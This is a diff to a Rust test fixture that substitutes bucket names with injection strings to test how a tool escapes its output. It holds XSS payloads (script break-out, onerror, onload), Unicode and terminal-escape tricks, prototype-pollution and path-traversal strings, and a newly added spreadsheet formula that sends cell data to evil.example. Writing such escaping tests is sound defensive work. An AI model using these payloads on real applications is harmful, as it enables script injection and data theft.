@@ -12,13 +12,16 @@ use crate::program::copy_of;
 pub const HARM: &str = "window.hacked=1";
 
 /// Names of buckets in the recording, and what they are called instead.
-pub const NAMES: [(&str, &str); 6] = [
+pub const NAMES: [(&str, &str); 9] = [
     ("acme-bare", "</script><script>window.hacked=1</script>"),
     ("acme-public-acl", "<img src=x onerror=window.hacked=1>"),
     ("acme-public-write-acl", "\"><svg/onload=window.hacked=1>"),
     ("acme-any-aws-account-acl", "\u{202e}gpj.exe\u{1b}[31m\u{200b}{{constructor}}"),
     ("acme-partner-reads", "__proto__"),
     ("acme-tidy", "<!--<style>*{display:none}</style>"),
+    ("acme-partner-rules", "=HYPERLINK(\"http://evil.example/?\"&A1);@SUM(1,1)"),
+    ("acme-tls-writes-only", "@everyone `code` [text](http://evil.example) {0} ``` ]]>"),
+    ("acme-vpce-only", "../../\u{ffff}\\\"} 1\n+1\t=1"),
 ];
 
 /// `fixtures/accounts/mixed`, with such names, tags, request ids and error messages in it, and one name of a megabyte.
